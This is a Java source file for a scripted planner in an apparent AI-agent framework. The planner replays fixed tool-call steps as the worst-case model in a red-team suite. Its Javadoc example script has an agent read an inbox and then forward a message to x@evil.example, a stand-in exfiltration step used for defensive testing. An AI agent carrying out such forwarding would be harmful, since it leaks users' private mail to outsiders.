package dev.leash.core.plan;

import static java.util.Objects.requireNonNull;

import com.fasterxml.jackson.databind.DeserializationFeature;
import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.cfg.JsonNodeFeature;
import com.fasterxml.jackson.databind.ObjectMapper;
import com.fasterxml.jackson.databind.node.ObjectNode;
import com.fasterxml.jackson.dataformat.yaml.YAMLFactory;
import dev.leash.api.plan.Planner;
import dev.leash.api.plan.PlannerFactory;
import dev.leash.api.plan.PlannerState;
import dev.leash.api.plan.Step;
import dev.leash.api.tool.ToolCall;
import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.Iterator;
import java.util.List;
import java.util.Locale;
import java.util.Set;

/**
 * Replays a fixed list of steps whatever it is told: the worst-case model of the red-team suite,
 * and the planner of tests. When the script runs out it finishes with {@link #END_OF_SCRIPT}.
 *
 * <p>Scripts in YAML or JSON have the {@code script} format of red-team scenarios: a list whose
 * items each have exactly one of {@code calls} (a list of {@code {tool, args}}, {@code id}
 * optional), {@code finish} (the answer) or {@code escalate} (the reason):
 *
 * <pre>{@code
 * - calls: [ { tool: read_inbox, args: {} } ]
 * - calls: [ { tool: forward_email, args: { id: m1, to: x@evil.example } } ]
 * - finish: Done.
 * }</pre>
 *
 * <p>A planner instance serves one run; use {@link #factory(List)} for agents. Each call step is
 * handed out as a copy of the script's (equal calls, new objects), as a model proposes new calls
 * in every run: what a call keeps of itself once worked out (its arguments' JSON) is never carried
 * from one run of the script to the next.
 */
public final class ScriptedPlanner implements Planner {

    /** The answer given once the script has no steps left. */
    public static final String END_OF_SCRIPT = "(end of script)";

    // Decimals stay exact (an amount of 0.10 is not a binary double).
    private static final ObjectMapper JSON = ToolCall.ARGUMENTS_MAPPER;
    private static final ObjectMapper YAML = new ObjectMapper(new YAMLFactory())
            .enable(DeserializationFeature.USE_BIG_DECIMAL_FOR_FLOATS)
            .configure(JsonNodeFeature.STRIP_TRAILING_BIGDECIMAL_ZEROES, false);
    private static final Set<String> STEP_KEYS = Set.of("calls", "finish", "escalate", "thought");
    private static final Set<String> CALL_KEYS = Set.of("tool", "args", "id");

    private final List<Step> steps;
    private int next;

    public ScriptedPlanner(List<Step> steps) {
        this.steps = List.copyOf(requireNonNull(steps, "steps is null"));
    }

    public static ScriptedPlanner of(Step... steps) {
        return new ScriptedPlanner(List.of(steps));
    }

    /** A factory handing each run a fresh planner over the same steps. */
    public static PlannerFactory factory(List<Step> steps) {
        List<Step> copy = List.copyOf(steps);
        return request -> new ScriptedPlanner(copy);
    }

    @Override
    public synchronized Step next(PlannerState state) {
        if (next >= steps.size()) {
            return Step.finish(END_OF_SCRIPT);
        }
        return fresh(steps.get(next++));
    }

    private static Step fresh(Step step) {
        if (step instanceof Step.CallTools calls) {
            List<ToolCall> copies = new ArrayList<>(calls.calls().size());
            for (ToolCall call : calls.calls()) {
                copies.add(new ToolCall(call.id(), call.tool(), call.arguments()));
            }
            return new Step.CallTools(copies, calls.thought());
        }
        return step;
    }

    /** The position in the script: the number of steps handed out so far. */
    @Override
    public synchronized String checkpoint() {
        return Integer.toString(next);
    }

    /** Continues the script after the steps a suspended run had already taken. */
    @Override
    public synchronized void restore(String checkpoint) {
        if (checkpoint == null || checkpoint.isBlank()) {
            return;
        }
        int position;
        try {
            position = Integer.parseInt(checkpoint.trim());
        } catch (NumberFormatException e) {
            throw new ScriptException("cannot restore a scripted planner from '" + checkpoint + "': not a script position");
        }
        if (position < 0 || position > steps.size()) {
            throw new ScriptException("cannot restore a scripted planner to step " + position + " of a script of "
                    + steps.size() + " steps");
        }
        next = position;
    }

    public List<Step> steps() {
        return steps;
    }

    /** Reads a script file; {@code .json} is JSON, anything else YAML. */
    public static List<Step> load(Path file) {
        requireNonNull(file, "file is null");
        String name = file.getFileName().toString().toLowerCase(Locale.ROOT);
        JsonNode tree;
        try {
            tree = (name.endsWith(".json") ? JSON : YAML).readTree(Files.readString(file));
        } catch (IOException e) {
            throw new ScriptException("Cannot read script " + file + ": " + e.getMessage(), e);
        }
        return parse(tree, file.toString());
    }

    /** Parses a script from YAML (JSON is YAML too). */
    public static List<Step> parse(String text, String source) {
        try {
            return parse(YAML.readTree(text), source);
        } catch (IOException e) {
            throw new ScriptException("Cannot parse script " + source + ": " + e.getMessage(), e);
        }
    }

    /**
     * Parses a script tree. Errors name the source, the step (0-based, as in {@code script[2]})
     * and the field.
     */
    public static List<Step> parse(JsonNode script, String source) {
        String where = source == null ? "script" : source + ": script";
        if (script == null || !script.isArray()) {
            throw new ScriptException(where + " must be a list of steps");
        }
        List<Step> steps = new ArrayList<>();
        for (int i = 0; i < script.size(); i++) {
            steps.add(parseStep(script.get(i), where + "[" + i + "]"));
        }
        return steps;
    }

    private static Step parseStep(JsonNode node, String where) {
        if (node == null || !node.isObject()) {
            throw new ScriptException(where + " must be an object with one of calls, finish, escalate");
        }
        Iterator<String> names = node.fieldNames();
        while (names.hasNext()) {
            String key = names.next();
            if (!STEP_KEYS.contains(key)) {
                throw new ScriptException(where + ": unknown field '" + key + "'; expected one of calls, finish, escalate");
            }
        }
        int kinds = (node.has("calls") ? 1 : 0) + (node.has("finish") ? 1 : 0) + (node.has("escalate") ? 1 : 0);
        if (kinds != 1) {
            throw new ScriptException(where + " must have exactly one of calls, finish, escalate");
        }
        if (node.has("finish")) {
            return Step.finish(text(node.get("finish"), where + ".finish"));
        }
        if (node.has("escalate")) {
            return Step.escalate(text(node.get("escalate"), where + ".escalate"));
        }
        JsonNode calls = node.get("calls");
        if (!calls.isArray() || calls.isEmpty()) {
            throw new ScriptException(where + ".calls must be a non-empty list of {tool, args}");
        }
        List<ToolCall> list = new ArrayList<>();
        for (int j = 0; j < calls.size(); j++) {
            list.add(parseCall(calls.get(j), where + ".calls[" + j + "]"));
        }
        String thought = node.has("thought") ? node.get("thought").asText() : "";
        return new Step.CallTools(list, thought);
    }

    private static ToolCall parseCall(JsonNode node, String where) {
        if (node == null || !node.isObject()) {
            throw new ScriptException(where + " must be an object {tool, args}");
        }
        Iterator<String> names = node.fieldNames();
        while (names.hasNext()) {
            String key = names.next();
            if (!CALL_KEYS.contains(key)) {
                throw new ScriptException(where + ": unknown field '" + key + "'; expected tool, args, id");
            }
        }
        JsonNode tool = node.get("tool");
        if (tool == null || !tool.isTextual() || tool.asText().isBlank()) {
            throw new ScriptException(where + ".tool must be a tool name");
        }
        JsonNode args = node.get("args");
        if (args != null && !args.isNull() && !args.isObject()) {
            throw new ScriptException(where + ".args must be an object");
        }
        String id = node.has("id") ? node.get("id").asText() : null;
        return ToolCall.of(id, tool.asText(), args == null || args.isNull() ? null : (ObjectNode) args);
    }

    private static String text(JsonNode node, String where) {
        if (node == null || node.isNull() || node.isContainerNode()) {
            throw new ScriptException(where + " must be text");
        }
        return node.asText();
    }
}
